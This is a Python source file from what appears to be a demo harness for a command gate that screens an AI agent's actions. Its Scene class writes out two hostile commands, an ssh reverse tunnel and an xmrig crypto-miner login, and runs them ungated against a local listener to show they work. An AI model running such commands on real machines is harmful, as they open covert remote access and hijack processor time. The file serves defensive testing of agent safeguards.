"""Scene: the folder an agent works in, the listener outside, and the proof that without a gate the two bad commands really work."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path
from resource import RUSAGE_CHILDREN, getrusage
from typing import Final

from gate.demo import programs
from gate.demo.listener import Listener

_SECONDS: Final = 15.0


class Scene:
    """Everything outside the gate. `folder` is what the agent may work in; the gate's own folder is beside it, never inside."""

    def __init__(self, root: Path) -> None:
        self.root, self.folder, self.gate = root, root / "work", root / "gate"
        self.folder.mkdir()
        self.gate.mkdir()
        programs.write_all(self.folder, sys.executable)
        self.listener = Listener()
        self.python = "python3" if shutil.which("python3", path=os.defpath + ":/usr/local/bin") else sys.executable
        self._ssh = "ssh"

    @property
    def tunnel(self) -> str:
        """The command that opens a reverse tunnel to the listener."""
        return f"{self._ssh} -fNR 2222:localhost:22 -p {self.listener.port} trainer@127.0.0.1"

    @property
    def miner(self) -> str:
        """The command that logs in at a pool and burns processor time."""
        return f"./xmrig -o stratum+tcp://127.0.0.1:{self.listener.port} -u wallet"

    @property
    def mined(self) -> bool:
        """Whether the miner has run since it was last forgotten."""
        return (self.folder / "mined.txt").exists()

    @property
    def cleaned(self) -> int:
        """How many times the harmless program has run."""
        path = self.folder / "cleaned.txt"
        return len(path.read_text().splitlines()) if path.exists() else 0

    def tunnel_works(self) -> bool:
        """Opens the tunnel without a gate: with the machine's own ssh, or the stand-in where that cannot reach the listener."""
        for ssh in ("ssh", "./ssh"):
            self._ssh = ssh
            if (ssh == "./ssh" or shutil.which(ssh)) and self._reached(self.tunnel):
                return True
        return False

    def mining_works(self) -> float:
        """Runs the miner without a gate; the processor seconds it took, 0 when it did not run."""
        before = getrusage(RUSAGE_CHILDREN)
        self._run(self.miner)
        after = getrusage(RUSAGE_CHILDREN)
        ran = self.mined
        (self.folder / "mined.txt").unlink(missing_ok=True)
        return after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime if ran else 0.0

    def close(self) -> None:
        """Stops listening. The folder is the caller's to remove."""
        self.listener.close()

    def _reached(self, command: str) -> bool:
        before = self.listener.connections
        self._run(command)
        return self.listener.heard(before + 1, 2.0)

    def _run(self, command: str) -> None:
        try:
            subprocess.run(command.split(), cwd=self.folder, stdin=subprocess.DEVNULL, capture_output=True, timeout=_SECONDS, check=False)
        except (OSError, subprocess.TimeoutExpired):
            return
